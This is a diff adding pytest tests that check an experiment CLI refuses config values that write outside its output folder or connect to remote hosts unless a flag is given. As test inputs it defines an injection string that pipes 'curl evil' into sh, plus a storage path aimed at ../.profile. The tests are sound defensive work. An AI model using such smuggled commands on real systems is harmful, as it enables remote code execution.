@@ -111,3 +111,61 @@ def test_init_prints_the_schema_for_editors(command: Command, place: Path) -> No
     schema = json.loads(command("init", "--schema").out)
     assert {"problem", "budget", "include"} <= set(schema["properties"])
     assert not (place / "experiment.yaml").exists()
+
+
+SHELL = "; curl evil | sh #"
+
+
+@pytest.mark.parametrize(
+    ("backend", "line"),
+    [
+        (f"{{kind: optuna, storage: ../.profile, study: '{SHELL}'}}", "backend.storage: got "),
+        ("{kind: optuna, storage: 'sqlite:///../x.db'}", "backend.storage: got "),
+        ("{kind: optuna, storage: 'postgresql://me:pw@evil/db'}", "//me:***@evil/db, a connection"),
+        ("{kind: ray, storage: /somewhere}", "backend.storage: got /somewhere, a file outside of"),
+        ("{kind: ray, address: 'ray://evil:1'}", "backend.address: got ray://evil:1, a connection"),
+        ('{kind: optuna, study: "a\\nb"}', "backend.study: got 'a\\nb', expected text on one line"),
+    ],
+)
+def test_a_config_writes_only_below_out_and_connects_nowhere(
+    command: Command, place: Path, backend: str, line: str
+) -> None:
+    folder = place / "here"
+    folder.mkdir()
+    text = (place / "small.yaml").read_text().replace("rows.npz", str(place / "rows.npz"))
+    (folder / "stranger.yaml").write_text(f"{text}backend: {backend}\n")
+    before = sorted(place.rglob("*"))
+    ended = command("run", folder / "stranger.yaml", "--out", folder / "o")
+    assert ended.code == 2
+    assert line in ended.err and ended.err.count("\n") == 1
+    if "one line" not in line:
+        assert "or --allow-outside" in ended.err
+    assert sorted(place.rglob("*")) == before
+
+
+def test_other_keys_that_reach_out_need_the_flag_too(command: Command, place: Path) -> None:
+    (place / "out.yaml").write_text((place / "small.yaml").read_text() + "out: ../elsewhere\n")
+    assert "out: got " in command("run", "out.yaml").err
+    mnist = "problem: {dataset: {name: mnist, download: true}}"
+    (place / "mnist.yaml").write_text(mnist)
+    for words in (["plan", "mnist.yaml"], ["run", "mnist.yaml", "--out", "o"]):
+        ended = command(*words)
+        assert ended.code == 2
+        assert "problem.dataset.download: got true, a connection, expected what stays" in ended.err
+    assert not (place / "o").exists()
+
+
+def test_what_is_allowed_or_typed_is_done(command: Command, place: Path) -> None:
+    (place / "study.yaml").write_text(
+        (place / "small.yaml").read_text()
+        + f"backend: {{kind: optuna, storage: ../study.log, study: '{SHELL}'}}\n"
+    )
+    (place / "here").mkdir()
+    run = ["run", "study.yaml", "-q", "--set", "budget=60", "--out"]
+    assert command(*run, "a", "--allow-outside").code == 0
+    assert (place.parent / "study.log").exists()
+    (place.parent / "study.log").unlink()
+    # The user's own words need no flag, and a file below --out needs none either.
+    assert command(*run, "b", "--set", "backend.storage=mine.log").code == 0
+    assert (place / "mine.log").exists()
+    assert command(*run, "c", "--set", "backend={kind: optuna, storage: c/study.log}").code == 0
